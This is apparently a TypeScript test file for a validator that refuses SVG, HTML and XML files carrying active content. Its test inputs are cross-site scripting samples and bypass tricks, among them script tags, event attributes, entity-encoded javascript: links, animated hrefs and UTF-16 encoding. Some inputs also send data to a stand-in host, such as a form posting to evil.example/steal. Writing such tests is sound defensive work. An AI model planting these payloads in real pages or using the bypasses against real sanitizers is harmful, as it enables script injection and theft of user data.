import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { activeContent, documentKind } from '../../src/validate/activeContent.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const svg = (body: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"${attributes}>${body}</svg>`;
const check = (text: string | Buffer, kind: 'svg' | 'document' = 'svg') => activeContent(Buffer.isBuffer(text) ? text : Buffer.from(text), kind);

describe('what a browser opens as a document of the site', () => {
  it('is decided by the type the host serves, whatever the case of the extension', () => {
    const kinds = Object.fromEntries(
      [
        'a.svg',
        'a.SVG',
        'a.Svg',
        'a.svgz',
        'a.html',
        'a.HTM',
        'a.shtml',
        'a.xhtml',
        'a.xht',
        'a.xml',
        'a.xsl',
        'a.rss',
        'a.atom',
        'a.png',
        'a.txt',
        'a.js',
        'a.json',
        'a.pdf',
        'a.css',
        'a',
      ].map((f) => [f, documentKind(f)]),
    );
    expect(kinds).toEqual({
      'a.svg': 'svg',
      'a.SVG': 'svg',
      'a.Svg': 'svg',
      'a.svgz': 'svg',
      'a.html': 'document',
      'a.HTM': 'document',
      'a.shtml': 'document',
      'a.xhtml': 'document',
      'a.xht': 'document',
      'a.xml': 'document',
      'a.xsl': 'document',
      'a.rss': 'document',
      'a.atom': 'document',
      'a.png': undefined,
      'a.txt': undefined,
      'a.js': undefined,
      'a.json': undefined,
      'a.pdf': undefined,
      'a.css': undefined,
      a: undefined,
    });
  });
});

describe('an SVG that could run script or reach beyond itself', () => {
  it.each([
    ['a <script>', svg('<script>alert(1)</script>'), 'it holds a <script>'],
    ['an upper-case <SCRIPT>', svg('<SCRIPT>alert(1)</SCRIPT>'), 'it holds a <script>'],
    ['a prefixed <svg:script>', svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'), 'it holds a <script>'],
    ['an XHTML <h:script>', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), 'it holds a <script>'],
    ['onload=', svg('', ' onload="alert(1)"'), 'it has an event attribute (onload)'],
    ['ONLOAD = on a new line', svg('', '\nONLOAD = "alert(1)"'), 'it has an event attribute (ONLOAD)'],
    ['an event attribute right after a quote', svg('<rect width="1"onclick="alert(1)"/>'), 'it has an event attribute (onclick)'],
    ['<foreignObject>', svg('<foreignObject width="10" height="10"><div>x</div></foreignObject>'), 'it embeds HTML (<foreignObject>)'],
    [
      'an XHTML iframe with srcdoc',
      svg('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
      'it embeds another document (<iframe>)',
    ],
    ['the XHTML namespace', svg('<g xmlns="http://www.w3.org/1999/xhtml"><b>x</b></g>'), 'it embeds HTML (the XHTML namespace)'],
    ['a javascript: link', svg('<a href="javascript:alert(1)"><rect width="5" height="5"/></a>'), 'it holds a javascript: address'],
    ['a javascript: link in xlink:href', svg('<a xlink:href="JavaScript:alert(1)"><rect width="5" height="5"/></a>'), 'it holds a javascript: address'],
    [
      'a link written as entities',
      svg('<a href="&#106;avascript:alert(1)"><rect width="5" height="5"/></a>'),
      'it refers to another file or host (href="&#106;avascript:alert(1)")',
    ],
    [
      'a link with another prefix for XLink',
      svg('<a x:href="/elsewhere" xmlns:x="http://www.w3.org/1999/xlink"><rect width="5" height="5"/></a>'),
      'it refers to another file or host (x:href="/elsewhere")',
    ],
    [
      '<use href="data:…">',
      svg('<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>'),
      'it refers to another file or host (href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x")',
    ],
    ['an unquoted href', svg('<a href=https://evil.example/><rect/></a>'), 'it refers to another file or host (href=https://evil.example/)'],
    [
      'a link animated to javascript:',
      svg('<a><animate attributeName="href" values="&#106;avascript:alert(1)"/><rect/></a>'),
      'it animates a link (attributeName="href")',
    ],
    [
      'a tracker image',
      svg('<image xlink:href="https://tracker.example/p.png" width="1" height="1"/>'),
      'it refers to another file or host (xlink:href="https://tracker.example/p.png")',
    ],
    [
      'an address in url() after one to #id',
      svg('<rect fill="url(#g)" stroke="url(https://evil.example/s.svg#a)"/>'),
      'it refers to another file or host (url(https://evil.example/s.svg#a))',
    ],
    ['@import', svg('<style>@import "https://evil.example/a.css";</style>'), 'its style imports another file (@import)'],
    [
      'an entity that could spell markup',
      `<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;alert(1)&#60;/script&#62;">]>${svg('&s;')}`,
      'it declares an entity (<!ENTITY>), which could spell out markup',
    ],
    ['an XSLT stylesheet', `<?xml-stylesheet type="text/xsl" href="#t"?>${svg('')}`, 'it asks to be transformed by a stylesheet (<?xml-stylesheet?>)'],
  ])('refuses %s', (_, text, reason) => {
    expect(check(text)?.reason).toBe(reason);
  });

  it('refuses a text that is not UTF-8, where a script could hide from a check that reads UTF-8', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg('<script>alert(1)</script>'), 'utf16le')]);
    expect(check(utf16)?.reason).toBe('it is not UTF-8 text, which could hide markup from this check: save it as UTF-8');
    expect(check(Buffer.from(svg('<script>alert(1)</script>'), 'utf16le'))?.reason).toBe(
      'it is not UTF-8 text, which could hide markup from this check: save it as UTF-8',
    );
  });

  it('reads a compressed SVG (.svgz) as a host that decompresses it serves it, and refuses one it cannot read', () => {
    expect(check(gzipSync(svg('<script>alert(1)</script>')))).toEqual({ reason: 'it holds a <script>' });
    expect(check(gzipSync(svg('<rect width="5" height="5"/>')))).toBeUndefined();
    expect(check(gzipSync(svg('<rect/>')).subarray(0, 12))?.reason).toMatch(/^it is compressed, and cannot be read to check it/);
  });

  it('says where in the text the problem starts', () => {
    const text = `<svg xmlns="http://www.w3.org/2000/svg">\n  <g>\n    <rect width="1"\n      onload="alert(1)"/>`;
    expect(check(text)).toEqual({ reason: 'it has an event attribute (onload)', index: text.indexOf('onload') });
    expect(check(svg('<a href="#x"/><a href="/y"/>'))?.index).toBe(svg('<a href="#x"/><a href="/y"/>').lastIndexOf('href'));
  });

  it('publishes an SVG that only draws: links and fills within itself, styles, gradients, text', () => {
    const drawing = svg(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><clipPath id="c"><rect width="5" height="5"/></clipPath></defs>' +
        '<style>.a { fill: url(#g); }</style><use href="#c"/><use xlink:href=\'#c\'/><rect class="a" clip-path="url( \'#c\' )" width="10" height="10"/><text>one two</text>',
    );
    expect(check(drawing)).toBeUndefined();
  });

  it('publishes every SVG the project and its fixtures hold today', () => {
    const svgs = ['public', 'tests/fixtures'].flatMap((dir) =>
      readdirSync(path.join(ROOT, dir), { recursive: true, encoding: 'utf8' })
        .filter((f) => /\.svg$/i.test(f))
        .map((f) => path.join(dir, f)),
    );
    expect(svgs.length).toBeGreaterThan(50);
    expect(svgs.filter((f) => check(readFileSync(path.join(ROOT, f))))).toEqual([]);
  });
});

describe('an HTML or XML document in public/', () => {
  it.each([
    ['a <script>', '<!doctype html><p>hi</p><script>alert(1)</script>', 'it holds a <script>'],
    ['an event attribute after a slash', '<img/src/onerror=alert(1)>', 'it has an event attribute (onerror)'],
    ['an iframe', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 'it embeds another document (<iframe>)'],
    ['an object', '<object data="/x.swf"></object>', 'it embeds another document (<object>)'],
    ['a refresh to elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example">', 'it tells the browser to go elsewhere (<meta http-equiv>)'],
    [
      'a form posting elsewhere',
      '<form action="https://evil.example/steal"><input name=p></form>',
      'it refers to another file or host (action="https://evil.example/steal")',
    ],
    [
      'an XML file with an XHTML script',
      '<?xml version="1.0"?><x><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></x>',
      'it holds a <script>',
    ],
    [
      'an XML file transformed by XSLT',
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/t.xsl"?><x/>',
      'it asks to be transformed by a stylesheet (<?xml-stylesheet?>)',
    ],
  ])('refuses %s', (_, text, reason) => {
    expect(check(text, 'document')?.reason).toBe(reason);
  });

  it('publishes one that holds no active markup: a site verification file, a plain XHTML page', () => {
    expect(check('google-site-verification: google1234abcd.html', 'document')).toBeUndefined();
    expect(check('<?xml version="1.0"?>\n<users>\n  <user>0123456789ABCDEF</user>\n</users>\n', 'document')).toBeUndefined();
    expect(
      check('<html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="utf-8"/><title>t</title></head><body><p>Only text.</p></body></html>', 'document'),
    ).toBeUndefined();
  });
});
